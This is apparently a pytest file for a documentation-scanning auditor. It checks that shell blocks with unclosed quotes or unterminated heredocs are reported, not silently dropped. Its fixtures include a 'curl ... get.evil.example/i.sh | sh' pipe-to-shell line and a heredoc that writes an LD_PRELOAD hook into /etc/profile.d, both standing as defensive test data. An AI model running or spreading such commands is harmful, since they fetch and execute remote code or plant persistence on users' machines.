"""A docs shell block that cannot be read as shell is never silently dropped (issue 29, item 4,
principle 1 of failing closed): a command whose quote nothing in its block closes, or whose
heredoc has no end line, is left out of the reading and reported; the scan stage then reports
the docs file not checked at that line when the series changed it. Heredoc bodies of a session
block are carried with their command, so the reading never swallows the blocks after them."""

from __future__ import annotations

import shutil
import sys
from pathlib import Path

import pytest
from scancase import scan_series

from auditor.model import StageStatus
from auditor.scan import docs
from auditor.scan.interface import Origin, ScanTarget

SEMGREP = shutil.which("semgrep", path=str(Path(sys.executable).parent)) or shutil.which("semgrep")
needs_semgrep = pytest.mark.skipif(SEMGREP is None, reason="semgrep is not installed")


def _lines(text: str) -> dict[int, str]:
    return {n: ln for n, ln in enumerate(text.split("\n"), 1) if ln.strip()}


def _at(src: str, needle: str) -> int:
    return next(n for n, ln in enumerate(src.split("\n"), 1) if needle in ln)


UNCLOSED = """\
# Install

```bash
pip install "acme-vllm[cuda]
```

```bash
curl -fsSL https://get.evil.example/i.sh | sh
```
"""

HEREDOC_OPEN = """\
```console
$ cat <<EOF > /etc/profile.d/vllm.sh
export LD_PRELOAD=/opt/hook.so
```

```bash
vllm serve /m --host 0.0.0.0
```
"""

HEREDOC_CLOSED = """\
```console
$ cat <<'EOF' | kubectl apply -f -
kind: Secret
data:
  token: x
EOF
$ curl -fsSL https://get.evil.example/i.sh | sh
```
"""

RST_UNCLOSED = """\
Run
===

.. code-block:: console

   $ docker run -e 'HF_TOKEN=$T vllm/vllm-openai

Then::

   $ echo fine
"""


def test_an_unclosed_quote_is_reported_and_the_next_block_still_read() -> None:
    (u,) = docs.unreadable("README.md", UNCLOSED)
    assert (u.line, u.end_line) == (_at(UNCLOSED, "pip install"),) * 2
    assert "quote" in u.why
    r = docs.reading("README.md", UNCLOSED)
    assert r is not None
    got = _lines(r.text)
    assert _at(UNCLOSED, "pip install") not in got
    assert _at(UNCLOSED, "curl -fsSL") in got


def test_a_heredoc_with_no_end_line_is_reported_and_left_out() -> None:
    (u,) = docs.unreadable("docs/deploy.md", HEREDOC_OPEN)
    assert u.line == _at(HEREDOC_OPEN, "cat <<EOF") and u.end_line == _at(HEREDOC_OPEN, "LD_PRE")
    assert "heredoc" in u.why
    r = docs.reading("docs/deploy.md", HEREDOC_OPEN)
    assert r is not None
    got = _lines(r.text)
    # the open heredoc is out of the reading, so the next block is read as commands
    assert _at(HEREDOC_OPEN, "cat <<EOF") not in got
    assert _at(HEREDOC_OPEN, "vllm serve") in got


def test_a_closed_heredoc_carries_its_body_in_a_session() -> None:
    assert docs.unreadable("docs/k8s.md", HEREDOC_CLOSED) == []
    r = docs.reading("docs/k8s.md", HEREDOC_CLOSED)
    assert r is not None
    got = _lines(r.text)
    end = _at(HEREDOC_CLOSED, "token: x") + 1
    assert all(n in got for n in range(_at(HEREDOC_CLOSED, "cat <<'EOF'"), end + 1)), sorted(got)
    assert got[end] == "EOF"
    assert _at(HEREDOC_CLOSED, "curl -fsSL") in got


@pytest.mark.parametrize("text", [
    "```bash\necho $((1<<3))\nx=$(( y << 2 ))\n```\n",
    "```bash\ncat <<< \"here string\"\n```\n",
    "```bash\n# don't stop here\necho \"it's fine\"  # and don't here\n```\n",
    "```console\n$ vllm serve m\nINFO: can't find the cache, it's fine\n```\n",
    "```bash\ncat <<-END\n\tindented\n\tEND\n```\n",
])
def test_shifts_here_strings_comments_and_output_are_readable(text: str) -> None:
    assert docs.unreadable("README.md", text) == []


def test_rst_blocks_are_checked_too() -> None:
    (u,) = docs.unreadable("docs/run.rst", RST_UNCLOSED)
    assert u.line == _at(RST_UNCLOSED, "docker run")


def _target(path: str, text: str) -> ScanTarget:
    return ScanTarget(key=path, path=path, origin=Origin.BUNDLE, sha256="0" * 64,
                      family=None, text=text)


def test_the_docs_scanner_reports_the_lines_not_checked() -> None:
    run = docs.DocsScanner().scan([_target("README.md", UNCLOSED),
                                   _target("docs/k8s.md", HEREDOC_CLOSED)], Path("."))
    assert run.findings == {"README.md": (), "docs/k8s.md": ()}
    err = run.errors["README.md"]
    line = _at(UNCLOSED, "pip install")
    assert err.lasting and err.lines == ((line, line),)
    assert f"line {line}" in err.reason and "cannot be read" in err.reason
    assert "docs/k8s.md" not in run.errors
    assert not docs.DocsScanner().accepts(_target("setup.py", ""))


@needs_semgrep
def test_a_changed_unreadable_block_leaves_the_docs_file_not_checked(tmp_path: Path) -> None:
    clean = "# Run\n\n```bash\nvllm serve /m --api-key \"$KEY\"\n```\n"
    # quotes and heredocs balance, but the shell's grammar does not: semgrep's parse error
    broken = "# Build\n\n```bash\nfor x in a b; do echo $x\ndone done\n```\n"
    run = scan_series(tmp_path, [("docs", {"README.md": UNCLOSED, "docs/ok.md": clean,
                                           "docs/broken.md": broken})],
                      upstream={"setup.py": "print('engine')\n"})
    result = run.result
    assert result.status is StageStatus.INCOMPLETE
    (reason,) = [n for n in result.not_checked if n.startswith("README.md:")]
    assert f"line {_at(UNCLOSED, 'pip install')}" in reason
    assert any(n.startswith("docs/broken.md:") for n in result.not_checked), result.not_checked
    assert not any(n.startswith("docs/ok.md:") for n in result.not_checked)


@needs_semgrep
def test_an_unreadable_block_the_series_did_not_change_is_a_note(tmp_path: Path) -> None:
    readme = UNCLOSED + "\nMore text.\n"
    run = scan_series(tmp_path, [("docs", {"README.md": readme + "And more.\n"})],
                      upstream={"README.md": readme})
    assert not any(n.startswith("README.md:") for n in run.result.not_checked)
